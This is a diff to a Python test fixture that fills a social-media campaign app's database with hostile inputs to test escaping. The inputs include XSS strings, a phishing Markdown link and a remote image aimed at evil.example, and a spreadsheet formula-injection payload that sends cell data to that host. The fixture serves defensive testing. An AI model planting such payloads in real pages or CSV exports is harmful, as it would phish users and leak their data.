@@ -30,7 +30,15 @@ import sqlalchemy as sa
 IMG_TAG = "<img src=x onerror=alert(1)>"
 SCRIPT_LINK = "[x](javascript:alert(1))"
 PIXEL = "![](https://example.org/pixel.png)"
-MARKUP = (IMG_TAG, SCRIPT_LINK, PIXEL)
+#: What a hostile platform (a Mastodon instance anyone can run) may answer, in an error or an
+#: account name: a phishing link and a remote image, dressed in the campaign's language.
+PHISHING_LINK = "[Reconnectez-vous ici](https://evil.example/login)"
+REMOTE_IMAGE = "![](https://evil.example/p.png)"
+HOSTILE_REPLY = f"{PHISHING_LINK} {REMOTE_IMAGE}"
+MARKUP = (IMG_TAG, SCRIPT_LINK, PIXEL, PHISHING_LINK, REMOTE_IMAGE)
+#: A spreadsheet formula at the start of a text: harmless on a page, run by a spreadsheet that
+#: opens a CSV holding it as typed.
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1;"Détails")'
 #: Text that breaks layouts and naive code rather than security.
 LONG_WORD = "Anticonstitutionnellement" * 12  # 300 letters, no break opportunity
 EMOJI = "✊🏽🕊️🇨🇦"
@@ -52,6 +60,8 @@ NOT_AN_IMAGE = b"this is text, not a picture\n"
 
 #: The address inside PIXEL: alone, GitHub-style Markdown would still make it a link.
 PIXEL_URL = "https://example.org/pixel.png"
+#: Every address above: each alone would still be a link.
+ADDRESSES = (PIXEL_URL, "https://evil.example/login", "https://evil.example/p.png")
 _ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
 
 
@@ -61,9 +71,8 @@ def live_markup(body: str) -> list[str]:
     a bare address is found by Streamlit's renderer after escapes are resolved, so it is looked
     for there (``plain()`` breaks it with an invisible word joiner)."""
     found = [fragment for fragment in MARKUP if fragment in body]
-    if PIXEL_URL in _ESCAPE.sub(r"\1", body):
-        found.append(PIXEL_URL)
-    return found
+    unescaped = _ESCAPE.sub(r"\1", body)
+    return found + [address for address in ADDRESSES if address in unescaped]
 
 
 @dataclasses.dataclass(frozen=True)
@@ -131,7 +140,7 @@ def build_busy_database(url: str, *, now: dt.datetime | None = None) -> Busy:
     today = _today()
     with Session(engine, expire_on_commit=False) as s:
         # -- editions: the bundled 2025 one, moved into the past if need be, and a current copy
-        finished = load_content(s, content=load_campaign(bundled_campaign("2025")))
+        finished = load_content(s, actor=SYSTEM, content=load_campaign(bundled_campaign("2025")))
         years_back = 0
         while finished.ends_on is not None and _shift_years(finished.ends_on, -years_back) >= today:
             years_back += 1
@@ -142,10 +151,17 @@ def build_busy_database(url: str, *, now: dt.datetime | None = None) -> Busy:
             name={"fr": f"Écrire, ça libère ! {QUOTE_AMP} {IMG_TAG} {EMOJI}", "en": f"Write for Rights {SCRIPT_LINK} {ARABIC}"},
             starts_on=today - dt.timedelta(days=30), ends_on=today + dt.timedelta(days=60), include_cases=True)
         editions.set_current(s, actor=SYSTEM, campaign_id=current.id or 0)
+        # A key date staff named with markup: the Overview's countdowns show it as a metric label.
+        current.key_dates = [{"slug": "marathon-hostile", "date": (today + dt.timedelta(days=1)).isoformat(),
+                              "name": {"fr": f"Marathon {IMG_TAG} {PIXEL}", "en": f"Marathon {SCRIPT_LINK}"}},
+                             *current.key_dates]
+        finished.name = {"fr": f"Bilan {SCRIPT_LINK} {QUOTE_AMP}", "en": f"Results {PIXEL}"}
+        s.add(current)
+        s.add(finished)
         s.flush()
 
         for name, role in PEOPLE.items():
-            users.add_user(s, username=name, password=PASSWORD, role=role)
+            users.add_user(s, actor=SYSTEM, username=name, password=PASSWORD, role=role)
 
         # -- cases: hostile names and stories, one paused, one with good news
         cases = list(s.exec(select(Case).where(Case.campaign_id == current.id).order_by(Case.position)))
@@ -172,21 +188,21 @@ def build_busy_database(url: str, *, now: dt.datetime | None = None) -> Busy:
 
         # -- accounts: all four kinds on their servers, one unhealthy, hostile handles and errors
         made = {
-            "x": accounts.add_account(s, kind="x", name="x-fr", language="fr", credentials={"bearer_token": "t"}),
-            "facebook": accounts.add_account(s, kind="facebook", name="facebook-fr", language="fr",
+            "x": accounts.add_account(s, actor=SYSTEM, kind="x", name="x-fr", language="fr", credentials={"bearer_token": "t"}),
+            "facebook": accounts.add_account(s, actor=SYSTEM, kind="facebook", name="facebook-fr", language="fr",
                                              credentials={"page_id": "1000001", "page_token": "t"}),
-            "mastodon": accounts.add_account(s, kind="mastodon", name="mastodon-fr", language="fr",
+            "mastodon": accounts.add_account(s, actor=SYSTEM, kind="mastodon", name="mastodon-fr", language="fr",
                                              base_url="https://mastodon.example.org", credentials={"access_token": "t"}),
-            "bluesky": accounts.add_account(s, kind="bluesky", name="bluesky-en", language="en",
+            "bluesky": accounts.add_account(s, actor=SYSTEM, kind="bluesky", name="bluesky-en", language="en",
                                             base_url="https://pds.example.org",
                                             credentials={"handle": "ecrire.example.org", "app_password": "t"}),
-            "unhealthy": accounts.add_account(s, kind="x", name=f"x \"l'écho\" & {IMG_TAG}", language=None,
+            "unhealthy": accounts.add_account(s, actor=SYSTEM, kind="x", name=f"x \"l'écho\" & {IMG_TAG}", language=None,
                                               credentials={"bearer_token": "t"}),
         }
         made["x"].handle = f"@ecrire {IMG_TAG}"
         made["mastodon"].handle = f"{SCRIPT_LINK}@mastodon.example.org"
         made["unhealthy"].healthy = False
-        made["unhealthy"].last_error = f"401 Unauthorized: {HOSTILE}"
+        made["unhealthy"].last_error = f"401 Unauthorized: {HOSTILE} {HOSTILE_REPLY}"
         made["unhealthy"].last_checked_at = now - dt.timedelta(hours=2)
         for account in made.values():
             s.add(account)
@@ -251,10 +267,13 @@ def build_busy_database(url: str, *, now: dt.datetime | None = None) -> Busy:
 
         # -- a post awaiting approval on every kind, a rejected one, a draft, a broken image
         pending: dict[str, int] = {}
+        # A picture that draws, described with markup: its alt text is the caption under it.
+        pictured = [{"data": base64.b64encode(png_bytes()).decode(), "mime_type": "image/png",
+                     "filename": f"{IMG_TAG}.png", "alt": f"Alt {HOSTILE}", "source": "upload"}]
         for kind in ("x", "facebook", "mastodon", "bluesky"):
             account = made[kind]
             waiting = post(f"En attente {kind} : {HOSTILE_LONG}", hostile_case, status="pending",
-                           language=account.language or "fr")
+                           language=account.language or "fr", images=pictured if kind == "x" else None)
             delivery(waiting, account, states.SCHEDULED, at=now + dt.timedelta(days=1))
             pending[kind] = waiting.id or 0
         broken = post(f"Image cassée {EMOJI}", cases[4], status="pending", images=[{
@@ -262,9 +281,14 @@ def build_busy_database(url: str, *, now: dt.datetime | None = None) -> Busy:
             "alt": f"Photo {HOSTILE}", "source": "photo.png"}])
         for kind in ("x", "mastodon"):
             delivery(broken, made[kind], states.SCHEDULED, at=now + dt.timedelta(days=2))
-        rejected = post(f"Refusée {IMG_TAG}", hostile_case, status="rejected", comment=f"Non : {HOSTILE}")
+        rejected = post(f"{FORMULA} Refusée {IMG_TAG}", hostile_case, status="rejected", comment=f"Non : {HOSTILE}")
         delivery(rejected, made["x"], states.SCHEDULED, at=now + dt.timedelta(days=3))
-        draft = post(f"Brouillon {SCRIPT_LINK} {LONG_WORD}", hostile_case, status="draft", author="edith")
+        draft = post(f"Brouillon {SCRIPT_LINK} {LONG_WORD}", hostile_case, status="draft", author="edith",
+                     images=[{**pictured[0], "filename": f"{SCRIPT_LINK} {PIXEL}.png"}])
+        # Its author adjusts it for the account with the hostile name: the name is in a field's label.
+        draft.accounts = [made["unhealthy"].id]
+        draft.variants = {str(made["unhealthy"].id): f"Variante {IMG_TAG}"}
+        s.add(draft)
         assert posts  # the service module is imported for the statuses' names in other tests
 
         # -- the media library: a good image with hostile words, and stored bytes that are not an image
